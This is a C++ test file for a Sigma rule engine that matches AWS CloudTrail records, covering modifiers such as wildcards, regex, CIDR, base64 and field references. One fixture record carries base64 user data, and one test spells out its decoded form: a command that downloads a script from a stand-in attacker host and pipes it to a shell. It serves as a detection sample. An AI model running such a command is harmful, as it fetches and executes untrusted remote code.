// SPDX-License-Identifier: MIT
// Sigma values and every modifier, on records written for the tests. The expected eventIDs are
// worked out by hand from the records below (and the base64 texts with Python's base64).
#include <catch2/catch.hpp>

#include "sigma_test_support.hpp"

using trailsift::SigmaOptions;
using trailsift::test::cloudtrail_rule;
using trailsift::test::Ids;
using trailsift::test::matching_ids;
using trailsift::test::problems_of;

namespace {

constexpr std::string_view kRecords = R"(
{"eventTime":"2024-03-01T12:34:56Z","eventSource":"iam.amazonaws.com","eventName":"CreateAccessKey","awsRegion":"us-east-1","sourceIPAddress":"203.0.113.7","userAgent":"aws-cli/2.15.0 Python/3.11","readOnly":false,"eventID":"e1","userIdentity":{"type":"IAMUser","userName":"alice","arn":"arn:aws:iam::111122223333:user/alice"},"requestParameters":{"userName":"bob"},"responseElements":{"accessKey":{"userName":"bob","status":"Active"}},"additionalEventData":{"bytes":443,"ratio":1.50}}
{"eventTime":"2024-12-30T23:59:59Z","eventSource":"s3.amazonaws.com","eventName":"ListBuckets","sourceIPAddress":"2001:db8::5","userAgent":"C:\\Windows\\*star?","readOnly":"true","errorCode":"AccessDenied","eventID":"e2","userIdentity":{"type":"AssumedRole","userName":"Admin"},"requestParameters":{"command":["echo $X","ls -la"]}}
{"eventTime":"2024-01-01T00:00:00Z","eventSource":"signin.amazonaws.com","eventName":"ConsoleLogin","sourceIPAddress":"10.1.2.3","userAgent":"Mozilla/5.0 — Ünïcode","errorMessage":null,"eventID":"e3","userIdentity":{"type":"Root","userName":""}}
{"eventTime":"2024-06-15T08:05:00Z","eventSource":"ec2.amazonaws.com","eventName":"RunInstances","sourceIPAddress":"ec2.amazonaws.com","eventID":"e4","requestParameters":{"port":"22","script":"line1\nline2","userData":"Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==","userData16":"YwB1AHIAbAAgAGgAdAB0AHAAOgAvAC8AZQB2AGkAbAAuAGUAeABhAG0AcABsAGUALwB4ACAAfAAgAHMAaAA=","userDataBE":"AGUAdgBpAGw=","userDataBOM":"//5lAHYAaQBsAA=="}}
)";

Ids ids(std::string_view detection) {
  return matching_ids(std::string(detection) + "    condition: selection\n", kRecords);
}

/// The one problem a rule with this selection has.
std::string problem(std::string_view selection) {
  const auto problems =
      problems_of(cloudtrail_rule("t", std::string(selection) + "    condition: selection\n"));
  REQUIRE(problems.size() == 1);
  return problems.front();
}

}  // namespace

TEST_CASE("Plain values: the whole value, any case - lists OR, maps AND", "[sigma_values]") {
  CHECK(ids("    selection:\n        eventName: createaccesskey\n") == Ids{"e1"});
  CHECK(ids("    selection:\n        eventName: Create\n").empty());
  CHECK(ids("    selection:\n        eventName: [ListBuckets, RunInstances]\n") == Ids{"e2", "e4"});
  CHECK(ids("    selection:\n        eventSource: s3.amazonaws.com\n        eventName: "
            "RunInstances\n")
            .empty());
}

TEST_CASE("cased: exact case", "[sigma_values]") {
  CHECK(ids("    selection:\n        eventName|cased: createaccesskey\n").empty());
  CHECK(ids("    selection:\n        eventName|cased: CreateAccessKey\n") == Ids{"e1"});
  CHECK(ids("    selection:\n        userAgent|cased|contains: python\n").empty());
}

TEST_CASE("Wildcards: * any run, ? one character (UTF-8)", "[sigma_values]") {
  CHECK(ids("    selection:\n        userAgent: 'aws-cli/*'\n") == Ids{"e1"});
  CHECK(ids("    selection:\n        eventName: 'List?uckets'\n") == Ids{"e2"});
  CHECK(ids("    selection:\n        eventName: '*'\n") == Ids{"e1", "e2", "e3", "e4"});
  // The em dash is three bytes and one character.
  CHECK(ids("    selection:\n        userAgent: 'Mozilla/5.0 ? Ünïcode'\n") == Ids{"e3"});
  CHECK(ids("    selection:\n        userAgent: 'Mozilla/5.0 ??? Ünïcode'\n").empty());
  CHECK(ids("    selection:\n        userAgent: '*a*?*3.?1'\n") == Ids{"e1"});
}

TEST_CASE("Escapes: an escaped * or ? is literal, two backslashes are one, a lone one itself",
          "[sigma_values]") {
  // e2's userAgent is C:\Windows\*star?
  CHECK(ids("    selection:\n        userAgent: 'C:\\Windows\\\\\\*star\\?'\n") == Ids{"e2"});
  CHECK(ids("    selection:\n        userAgent: 'C:\\Windows\\\\*'\n") == Ids{"e2"});
  CHECK(ids("    selection:\n        userAgent: 'C:\\Windows\\*'\n").empty());  // a literal *
  CHECK(ids("    selection:\n        userAgent: '*\\*star*'\n") == Ids{"e2"});
  CHECK(ids("    selection:\n        userAgent: '*\\*stars*'\n").empty());
}

TEST_CASE("contains, startswith, endswith wrap the value, not its escapes", "[sigma_values]") {
  CHECK(ids("    selection:\n        userAgent|contains: PYTHON\n") == Ids{"e1"});
  CHECK(ids("    selection:\n        userAgent|startswith: AWS-cli\n") == Ids{"e1"});
  CHECK(ids("    selection:\n        userAgent|startswith: cli\n").empty());
  CHECK(ids("    selection:\n        userAgent|endswith: '/3.11'\n") == Ids{"e1"});
  // A value ending in a backslash: the wildcard added after it stays a wildcard.
  CHECK(ids("    selection:\n        userAgent|contains: 'Windows\\'\n") == Ids{"e2"});
}

TEST_CASE("all: every value must match", "[sigma_values]") {
  CHECK(ids("    selection:\n        userAgent|contains|all: [aws-cli, Python]\n") == Ids{"e1"});
  CHECK(ids("    selection:\n        userAgent|contains|all: [aws-cli, Ruby]\n").empty());
  CHECK(ids("    selection:\n        userAgent|contains: [aws-cli, Ruby]\n") == Ids{"e1"});
}

TEST_CASE("re: RE2, case-sensitive, unanchored - i, m and s", "[sigma_values]") {
  CHECK(ids("    selection:\n        eventName|re: '^Create.*Key$'\n") == Ids{"e1"});
  CHECK(ids("    selection:\n        eventName|re: 'Access'\n") == Ids{"e1"});
  CHECK(ids("    selection:\n        eventName|re: '^create'\n").empty());
  CHECK(ids("    selection:\n        eventName|re|i: '^create'\n") == Ids{"e1"});
  CHECK(ids("    selection:\n        requestParameters.script|re: '^line2$'\n").empty());
  CHECK(ids("    selection:\n        requestParameters.script|re|m: '^line2$'\n") == Ids{"e4"});
  CHECK(ids("    selection:\n        requestParameters.script|re: 'line1.line2'\n").empty());
  CHECK(ids("    selection:\n        requestParameters.script|re|s: 'line1.line2'\n") == Ids{"e4"});
  CHECK(ids("    selection:\n        requestParameters.script|re|i|m|s: '^LINE1.LINE2$'\n") ==
        Ids{"e4"});
  CHECK(problem("    selection:\n        eventName|re: '(?<=a)b'\n")
            .find("invalid regular expression '(?<=a)b'") != std::string::npos);
}

TEST_CASE("re runs in linear time on a hostile pattern and a long field", "[sigma_values]") {
  // (a+)+$ takes exponential time in a backtracking engine on 'aaa...ab'.
  const std::string long_field = std::string(200000, 'a') + "b";
  const std::string record =
      R"({"eventName":"X","eventSource":"x","eventID":"long","userAgent":")" + long_field + "\"}\n";
  CHECK(matching_ids("    selection:\n        userAgent|re: '(a+)+$'\n    condition: selection\n",
                     record)
            .empty());
  CHECK(matching_ids("    selection:\n        userAgent|re: '(a+)+b$'\n    condition: selection\n",
                     record) == Ids{"long"});
}

TEST_CASE("cidr: IPv4 and IPv6 blocks", "[sigma_values]") {
  CHECK(ids("    selection:\n        sourceIPAddress|cidr: 203.0.113.0/24\n") == Ids{"e1"});
  CHECK(ids("    selection:\n        sourceIPAddress|cidr: [10.0.0.0/8, '2001:db8::/32']\n") ==
        Ids{"e2", "e3"});
  CHECK(problem("    selection:\n        sourceIPAddress|cidr: 10.0.0.0/40\n")
            .ends_with("'sourceIPAddress|cidr': invalid CIDR block '10.0.0.0/40'"));
}

TEST_CASE("exists: present, even null - or absent", "[sigma_values]") {
  CHECK(ids("    selection:\n        errorMessage|exists: true\n") == Ids{"e3"});
  CHECK(ids("    selection:\n        readOnly|exists: false\n") == Ids{"e3", "e4"});
  CHECK(ids("    selection:\n        userIdentity.userName|exists: true\n") ==
        Ids{"e1", "e2", "e3"});
  CHECK(problem("    selection:\n        readOnly|exists: maybe\n")
            .ends_with("exists takes true or false"));
}

TEST_CASE("neq: a value different from every value - nothing when absent", "[sigma_values]") {
  CHECK(ids("    selection:\n        userIdentity.type|neq: IAMUser\n") == Ids{"e2", "e3"});
  CHECK(ids("    selection:\n        eventName|neq: [createaccesskey, ListBuckets]\n") ==
        Ids{"e3", "e4"});
}

TEST_CASE("gt, gte, lt, lte: numbers and numeric strings", "[sigma_values]") {
  CHECK(ids("    selection:\n        additionalEventData.bytes|gt: 400\n") == Ids{"e1"});
  CHECK(ids("    selection:\n        additionalEventData.bytes|lt: 443\n").empty());
  CHECK(ids("    selection:\n        additionalEventData.bytes|lte: 443\n") == Ids{"e1"});
  CHECK(ids("    selection:\n        additionalEventData.bytes|gte: 444\n").empty());
  CHECK(ids("    selection:\n        requestParameters.port|gte: 22\n") == Ids{"e4"});
  CHECK(ids("    selection:\n        additionalEventData.ratio|lt: 1.6\n") == Ids{"e1"});
  CHECK(ids("    selection:\n        eventName|gt: 0\n").empty());
  CHECK(problem("    selection:\n        additionalEventData.bytes|gt: many\n")
            .ends_with("'many' is not a number"));
}

TEST_CASE("Numbers and booleans in records compare as JSON writes them", "[sigma_values]") {
  CHECK(ids("    selection:\n        additionalEventData.bytes: 443\n") == Ids{"e1"});
  CHECK(ids("    selection:\n        additionalEventData.bytes: '44*'\n") == Ids{"e1"});
  CHECK(ids("    selection:\n        additionalEventData.ratio: '1.5'\n") == Ids{"e1"});
  CHECK(ids("    selection:\n        additionalEventData.ratio: '1.50'\n").empty());
  CHECK(ids("    selection:\n        readOnly: false\n") == Ids{"e1"});   // JSON false
  CHECK(ids("    selection:\n        readOnly: 'TRUE'\n") == Ids{"e2"});  // the string "true"
}

TEST_CASE("Time modifiers: parts of the time in UTC, ISO weeks", "[sigma_values]") {
  CHECK(ids("    selection:\n        eventTime|minute: 34\n") == Ids{"e1"});
  CHECK(ids("    selection:\n        eventTime|hour: 12\n") == Ids{"e1"});
  CHECK(ids("    selection:\n        eventTime|day: 30\n") == Ids{"e2"});
  CHECK(ids("    selection:\n        eventTime|month: 6\n") == Ids{"e4"});
  CHECK(ids("    selection:\n        eventTime|year: 2024\n") == Ids{"e1", "e2", "e3", "e4"});
  // 2024-12-30 is in week 1 of 2025; 2024-01-01, a Monday, in week 1 of 2024.
  CHECK(ids("    selection:\n        eventTime|week: 1\n") == Ids{"e2", "e3"});
  CHECK(ids("    selection:\n        eventTime|week: 24\n") == Ids{"e4"});
  CHECK(ids("    selection:\n        eventTime|hour|gte: 23\n") == Ids{"e2"});
  CHECK(ids("    selection:\n        eventTime|hour|lt: 9\n") == Ids{"e3", "e4"});
}

TEST_CASE("fieldref: another field of the same record", "[sigma_values]") {
  CHECK(ids("    selection:\n        requestParameters.userName|fieldref: "
            "responseElements.accessKey.userName\n") == Ids{"e1"});
  CHECK(ids("    selection:\n        userIdentity.userName|fieldref|neq: "
            "requestParameters.userName\n") == Ids{"e1"});
  CHECK(
      ids("    selection:\n        userIdentity.arn|contains|fieldref: userIdentity.userName\n") ==
      Ids{"e1"});
  CHECK(ids("    selection:\n        userIdentity.arn|fieldref|endswith: "
            "requestParameters.userName\n")
            .empty());
  // Without fieldref, the field name is a plain string (as SigmaHQ's backdoor-keys rule has it).
  CHECK(ids("    selection:\n        userIdentity.arn|contains: requestParameters.userName\n")
            .empty());
}

TEST_CASE("windash: - / and the Unicode dashes, each for the others", "[sigma_values]") {
  CHECK(ids("    selection:\n        requestParameters.command|windash|contains: ' /la'\n") ==
        Ids{"e2"});
  CHECK(ids("    selection:\n        requestParameters.command|windash|contains: ' "
            "\xe2\x80\x94la'\n") == Ids{"e2"});
  CHECK(ids("    selection:\n        requestParameters.command|contains: ' /la'\n").empty());
}

TEST_CASE("base64, base64offset and the UTF-16 encodings", "[sigma_values]") {
  CHECK(ids("    selection:\n        requestParameters.userData|base64: 'curl "
            "http://evil.example/x | sh'\n") == Ids{"e4"});
  CHECK(ids("    selection:\n        requestParameters.userData|base64offset|contains: "
            "evil.example\n") == Ids{"e4"});
  CHECK(
      ids("    selection:\n        requestParameters.userData|base64offset|contains: evil.sample\n")
          .empty());
  CHECK(ids("    selection:\n        requestParameters.userData16|wide|base64offset|contains: "
            "evil\n") == Ids{"e4"});
  CHECK(ids("    selection:\n        requestParameters.userData16|utf16le|base64offset|contains: "
            "evil\n") == Ids{"e4"});
  CHECK(ids("    selection:\n        requestParameters.userDataBE|utf16be|base64: evil\n") ==
        Ids{"e4"});
  CHECK(ids("    selection:\n        requestParameters.userDataBOM|utf16|base64: evil\n") ==
        Ids{"e4"});
  CHECK(problem("    selection:\n        requestParameters.userData|base64: 'evil*'\n")
            .ends_with("base64 cannot encode a value with wildcards"));
}

TEST_CASE("expand: placeholders from the options", "[sigma_values]") {
  SigmaOptions options;
  options.placeholders["admins"] = {"alice", "carol"};
  const std::string selection =
      "    selection:\n        userIdentity.userName|expand: '%admins%'\n"
      "    condition: selection\n";
  CHECK(matching_ids(selection, kRecords, options) == Ids{"e1"});
  options.placeholders["admins"] = {"ad*"};  // values are Sigma strings: wildcards work
  CHECK(matching_ids(selection, kRecords, options) == Ids{"e2"});
  const auto missing = problems_of(cloudtrail_rule("t", selection));
  REQUIRE(missing.size() == 1);
  CHECK(
      missing.front().find("placeholder %admins% has no value (give --placeholder admins=VALUE") !=
      std::string::npos);
  // Without expand, and when escaped, %name% is text.
  CHECK(ids("    selection:\n        userIdentity.userName: '%admins%'\n").empty());
  CHECK(matching_ids("    selection:\n        userIdentity.userName|expand: '\\%admins%'\n"
                     "    condition: selection\n",
                     kRecords, options)
            .empty());
}

TEST_CASE("Modifiers that cannot run are the rule's problem, named", "[sigma_values]") {
  CHECK(problem("    selection:\n        eventName|foo: x\n")
            .ends_with("'eventName|foo': unsupported modifier 'foo'"));
  CHECK(problem("    selection:\n        eventName|re|contains: x\n")
            .ends_with("modifier 'contains' cannot be combined with 're'"));
  CHECK(problem("    selection:\n        eventName|i: x\n")
            .ends_with("modifiers 'i', 'm' and 's' go with 're'"));
  CHECK(problem("    selection:\n        eventName|cidr|gt: 1\n")
            .ends_with("modifiers 'cidr' and 'comparison' cannot be combined"));
  CHECK(problem("    selection:\n        eventName|contains: ~\n")
            .ends_with("null takes no modifiers"));
  CHECK(problem("    selection:\n        eventName: [[a]]\n").find("a list may hold only values") !=
        std::string::npos);
}
